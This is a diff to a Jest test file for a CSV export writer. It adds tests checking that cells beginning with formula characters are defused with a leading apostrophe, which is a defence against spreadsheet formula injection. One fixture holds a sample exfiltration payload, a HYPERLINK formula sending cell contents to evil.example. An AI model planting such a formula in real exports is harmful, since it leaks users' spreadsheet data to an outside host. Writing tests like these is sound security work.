@@ -1,7 +1,7 @@
 import { describe, expect, it } from '@jest/globals';
 import { parse } from 'csv-parse/sync';
 import { PassThrough } from 'node:stream';
-import { csvField, writeCsvTable } from './csv-table.js';
+import { csvField, defused, writeCsvTable } from './csv-table.js';
 import { typed, type ExportTable } from './export-table.js';
 
 async function csvOf(table: ExportTable, highWaterMark?: number): Promise<Buffer> {
@@ -53,6 +53,54 @@ describe('writeCsvTable', () => {
     const parsed = parse(bytes.toString('utf8'), { bom: true });
     expect(parsed).toHaveLength(5_001);
     expect(parsed[5_000]).toEqual(['row 4999', '2020-01-01', '4999', '']);
+  });
+
+  it('defuses text that a spreadsheet would run as a formula, and leaves numbers as numbers', async () => {
+    const table: ExportTable = {
+      title: 'Courses',
+      columns: [
+        { header: '=Course', kind: 'text', width: 10 },
+        { header: 'Change', kind: 'count', width: 10 },
+      ],
+      rows: [
+        ['=HYPERLINK("https://evil.example/?d="&A3,"Click")', -5],
+        ['+1 course', typed('text', '-5')],
+        ['@SUM(A1)', typed('amount', -12.5)],
+        ['\tTabbed', 0],
+        ['\rReturned', null],
+        ['Plain - title', 3],
+      ],
+    };
+    const text = (await csvOf(table)).toString('utf8');
+    expect(text).toContain('\r\n"\'=HYPERLINK(""https://evil.example/?d=""&A3,""Click"")",-5\r\n');
+    expect(parse(text, { bom: true })).toEqual([
+      ["'=Course", 'Change'],
+      ['\'=HYPERLINK("https://evil.example/?d="&A3,"Click")', '-5'],
+      ["'+1 course", "'-5"],
+      ["'@SUM(A1)", '-12.5'],
+      ["'\tTabbed", '0'],
+      ["'\rReturned", ''],
+      ['Plain - title', '3'],
+    ]);
+  });
+
+  it('defuses only a formula’s first character', () => {
+    expect(['=1', '+1', '-1', '@a', '\ta', '\ra'].map(defused)).toEqual([
+      "'=1",
+      "'+1",
+      "'-1",
+      "'@a",
+      "'\ta",
+      "'\ra",
+    ]);
+    expect(['a=1', '1-2', 'e-mail', '', "'quoted", ' =1'].map(defused)).toEqual([
+      'a=1',
+      '1-2',
+      'e-mail',
+      '',
+      "'quoted",
+      ' =1',
+    ]);
   });
 
   it('quotes only what needs it', () => {
